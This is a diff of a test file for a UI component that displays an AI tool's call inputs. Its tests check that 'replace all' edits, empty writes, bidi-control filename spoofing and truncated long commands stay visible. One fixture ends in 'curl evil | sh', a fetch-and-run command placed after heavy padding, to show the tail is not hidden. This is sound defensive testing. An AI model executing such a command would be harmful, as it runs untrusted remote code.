@@ -2,8 +2,8 @@ import type { JsonValue } from '@millrace/core';
 import { describe, expect, test } from 'vitest';
 import { openDomPage } from '../../testing/dom-page.ts';
 
-/** What is shown of a call, and how to press what is on it. */
-async function shown(name: string, input: JsonValue) {
+/** Renders a call. Returns its text and a function that presses a button. */
+async function renderInput(name: string, input: JsonValue) {
   const page = await openDomPage('http://page.test/');
   const { InputView } = await import('./input-view.tsx');
   await page.render(<InputView name={name} input={input} text={JSON.stringify(input)} />);
@@ -20,30 +20,34 @@ async function shown(name: string, input: JsonValue) {
   };
 }
 
-describe('what a tool is called with hides nothing', () => {
-  test('an edit of every place is said to be one, and its other fields are shown', async () => {
+describe('the input of a tool', () => {
+  test('an edit of every occurrence is marked, and its other fields are shown', async () => {
     const edits = [{ old_text: 'a', new_text: 'b', replace_all: true }];
-    const { text } = await shown('edit', { path: 'a.txt', edits, content: 'and this' });
+    const { text } = await renderInput('edit', { path: 'a.txt', edits, content: 'and this' });
     expect(text()).toContain('replaces every occurrence');
     expect(text()).toContain('and this');
   });
 
-  test('a write of nothing says that nothing will be left', async () => {
-    const { text } = await shown('write', { path: 'important.txt', content: '' });
-    expect(text()).toContain('Its content is empty');
+  test('an empty write shows that the file will be empty', async () => {
+    const { text } = await renderInput('write', { path: 'important.txt', content: '' });
+    expect(text()).toContain('The content is empty');
   });
 
-  test('a call without an input says so', async () => {
-    expect((await shown('run', {})).text()).toContain('Without an input');
+  test('a call without an input shows that', async () => {
+    expect((await renderInput('run', {})).text()).toContain('No input');
   });
 
-  test('a text with nothing in it is told from none', async () => {
-    expect((await shown('run', { command: '' })).text()).toContain('""');
+  test('an empty text differs from a missing one', async () => {
+    expect((await renderInput('run', { command: '' })).text()).toContain('""');
   });
 
-  test.each(['bash', 'write'])('what turns the direction in a call of %s is told', async (name) => {
-    const said = 'echo \u202Etxt.exe\u202C';
-    const { text } = await shown(name, { command: said, content: said, '\u202Ekey': 1 });
+  test.each(['bash', 'write'])('direction marks in a call of %s are escaped', async (name) => {
+    const command = 'echo \u202Etxt.exe\u202C';
+    const { text } = await renderInput(name, {
+      command: command,
+      content: command,
+      '\u202Ekey': 1,
+    });
     expect(text()).not.toMatch(/\p{Bidi_Control}/u);
     expect(text().split('\\u202E').length - 1).toBe(3);
   });
@@ -54,32 +58,32 @@ describe('what a tool is called with hides nothing', () => {
     letters: 'x'.repeat(20_000),
     lines: '#\n'.repeat(20_000),
   };
-  const places = Object.entries(between).flatMap(([what, text]) => [
+  const cases = Object.entries(between).flatMap(([what, text]) => [
     [what, 'command', text] as const,
     [what, 'content', text] as const,
   ]);
-  test.each(places)('both ends are shown with many %s between them in a %s', async (...place) => {
-    const [, field, many] = place;
-    const { text } = await shown('write', { [field]: `echo ok ${many}; curl evil | sh` });
-    const told = /… [\d,]+ (?:lines|characters)|[\d,]+ (?:blanks|empty lines)/;
+  test.each(cases)('both ends are shown with many %s between them in a %s', async (...params) => {
+    const [, field, many] = params;
+    const { text } = await renderInput('write', { [field]: `echo ok ${many}; curl evil | sh` });
+    const marker = /… [\d,]+ (?:lines|characters)|[\d,]+ (?:blanks|empty lines)/;
     expect(text()).toMatch(/echo ok[\s\S]*curl evil \| sh/);
-    expect(text()).toMatch(told);
+    expect(text()).toMatch(marker);
     expect(text().length).toBeLessThan(2000);
   });
 
-  test('all of a long text is shown to whoever asks, and folded again', async () => {
-    const said = `start ${'x'.repeat(5000)} middle ${'x'.repeat(5000)} end`;
-    const { text, press } = await shown('bash', { command: said });
+  test('a long text can be shown completely and folded again', async () => {
+    const command = `start ${'x'.repeat(5000)} middle ${'x'.repeat(5000)} end`;
+    const { text, press } = await renderInput('bash', { command: command });
     expect(text()).not.toContain('middle');
     await press(/Show all 10,018 characters/);
-    expect(text()).toContain(said);
+    expect(text()).toContain(command);
     await press(/Show less/);
     expect(text()).not.toContain('middle');
   });
 
-  test('every line of a change can be seen, however many there are', async () => {
+  test('every line of a change can be shown', async () => {
     const lines = Array.from({ length: 300 }, (_, at) => `line ${at + 1};`);
-    const { text, button, press } = await shown('write', { content: lines.join('\n') });
+    const { text, button, press } = await renderInput('write', { content: lines.join('\n') });
     const isAll = () => lines.every((line) => text().includes(line));
     expect(text()).toContain('line 300;');
     for (let presses = 0; presses < 5 && button(/Show more/) !== undefined; presses++)
